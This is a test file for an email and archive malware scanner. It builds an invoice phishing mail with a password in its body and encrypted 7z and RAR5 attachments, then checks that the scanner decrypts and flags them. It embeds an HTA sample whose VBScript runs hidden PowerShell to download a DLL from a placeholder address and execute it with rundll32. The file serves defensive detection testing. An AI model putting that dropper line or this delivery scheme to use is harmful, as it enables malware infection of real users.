/**
 * Issue 4 end to end through `scanInput`: a mail gives the password in its body (the Emotet 2020–2022 "PPAP"
 * habit) and attaches a 7z with AES-encrypted names and data (`7z a -p -mhe=on`) and a RAR5 with encrypted
 * headers (`rar -hp`); both open with that password and their members are scanned. Without the password
 * both archives are suspicious, never clean. Archives built in code; inert text, TEST-NET addresses.
 */
import assert from 'node:assert/strict';
import { test } from 'node:test';
import { walkResults, type ScanResult } from '../../src/core/index.js';
import { scanInput } from '../../src/pipeline/index.js';
import { buildMime } from '../builders/mime.js';
import { buildRar5 } from '../builders/rar.js';
import { buildEncryptedSevenZip } from '../builders/sevenzip.js';

const HTA = `<html><head><hta:application windowstate="minimize"/>
<script language="VBScript">
CreateObject("WScript.Shell").Run "powershell -nop -w hidden -c iwr http://192.0.2.9/a.dll -OutFile a.dll; rundll32 a.dll,Run", 0
</script></head><body></body></html>`;
const PASSWORD = 'Kx82pQ';

const nodes = (r: ScanResult) => [...walkResults(r)].map(([n]) => n);
const find = (r: ScanResult, suffix: string) => nodes(r).find((n) => n.path.endsWith(suffix));

async function mail(text: string): Promise<Uint8Array> {
  return buildMime({
    subject: '請求書の送付',
    text,
    attachments: [
      {
        filename: 'invoice.7z',
        content: buildEncryptedSevenZip({
          files: [{ name: 'invoice.hta', data: HTA }],
          password: PASSWORD,
          encryptHeader: true,
        }),
      },
      {
        filename: 'invoice.rar',
        content: buildRar5([{ name: 'invoice2.hta', data: HTA, password: PASSWORD }], {
          headerPassword: PASSWORD,
        }),
      },
    ],
  });
}

test('mail with the password in its body → 7z AES (-mhe) and RAR5 -hp opened, HTA members scanned → malicious', async () => {
  const result = await scanInput({
    path: 'mail.eml',
    bytes: await mail(`請求書を添付します。\nパスワード: ${PASSWORD}\n`),
  });
  assert.equal(result.verdict, 'malicious');
  for (const member of ['invoice.7z!invoice.hta', 'invoice.rar!invoice2.hta']) {
    const node = find(result, member);
    assert.ok(node, `${member} extracted`);
    assert.equal(node.verdict, 'malicious', member);
  }
});

test('the same mail without the password → both archives suspicious (encrypted-archive), nothing inside', async () => {
  const result = await scanInput({ path: 'mail.eml', bytes: await mail('請求書を添付します。\n') });
  for (const archive of ['invoice.7z', 'invoice.rar']) {
    const node = find(result, archive)!;
    assert.equal(node.verdict, 'suspicious', archive);
    assert.deepEqual(
      node.findings.map((f) => f.id),
      ['container.encrypted-archive'],
    );
    assert.deepEqual(node.children, []);
  }
});
